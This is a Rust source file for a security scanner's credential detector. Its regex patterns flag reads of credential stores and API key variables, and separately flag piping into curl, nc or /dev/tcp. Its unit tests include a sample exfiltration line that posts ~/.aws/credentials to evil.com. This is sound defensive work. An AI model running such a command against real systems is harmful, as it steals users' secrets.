//! Credential detector (spec.md §4.4.3): flags read access to common
//! credential stores and well-known API key environment variables.

use regex::Regex;
use std::path::Path;
use std::sync::LazyLock;
use zephyr_schema::{Finding, Severity};

static CREDENTIAL_PATHS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(~|\$HOME)/(\.aws/credentials|\.ssh/id_[A-Za-z0-9_]+|\.docker/config\.json|\.kube/config|\.npmrc|\.pypirc|\.netrc)",
    )
    .expect("credential path regex must compile")
});

static CREDENTIAL_TOKENS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(OPENAI_API_KEY|ANTHROPIC_API_KEY|AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN|NPM_TOKEN)\b")
        .expect("credential token regex must compile")
});

/// A line couples with an RCE/exfiltration pattern if it also pipes or
/// redirects into one of these sinks.
static EXFIL_SINK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\|\s*(curl|nc)\b|>\s*/dev/tcp|base64\b").expect("exfil sink regex must compile")
});

pub const PATTERN_ID: &str = "credentials.read_access";

/// Scans a single line for credential access, returning a finding at
/// `warning` severity. Escalation to `critical` on coupling with
/// exfiltration is applied by the caller (`scanner::mod`) once all of a
/// file's credential and RCE/transport findings are known.
#[must_use]
pub fn scan_line(file: &Path, line_no: usize, line: &str) -> Option<Finding> {
    let matched_path = CREDENTIAL_PATHS.find(line);
    let matched_token = CREDENTIAL_TOKENS.find(line);
    let m = matched_path.or(matched_token)?;

    Some(Finding {
        severity: Severity::Warning,
        pattern_id: PATTERN_ID.to_string(),
        description: "reads a credential store or well-known secret token".to_string(),
        file: file.to_path_buf(),
        line: line_no,
        snippet: m.as_str().to_string(),
        bypass_hint: None,
    })
}

/// Whether `line` itself also pipes/redirects the read credential toward an
/// exfiltration sink (same-line coupling, stronger signal than file-wide
/// coupling with an unrelated RCE pattern elsewhere).
#[must_use]
pub fn line_has_exfil_sink(line: &str) -> bool {
    EXFIL_SINK.is_match(line)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn detects_aws_credentials_read() {
        let f = PathBuf::from("init.zsh");
        let finding = scan_line(&f, 1, "cat ~/.aws/credentials").unwrap();
        assert_eq!(finding.severity, Severity::Warning);
    }

    #[test]
    fn detects_api_key_token() {
        let f = PathBuf::from("init.zsh");
        assert!(scan_line(&f, 1, "export OPENAI_API_KEY=$KEY").is_some());
    }

    #[test]
    fn same_line_exfil_sink_detected() {
        assert!(line_has_exfil_sink("cat ~/.aws/credentials | curl -X POST evil.com"));
        assert!(!line_has_exfil_sink("cat ~/.aws/credentials"));
    }
}
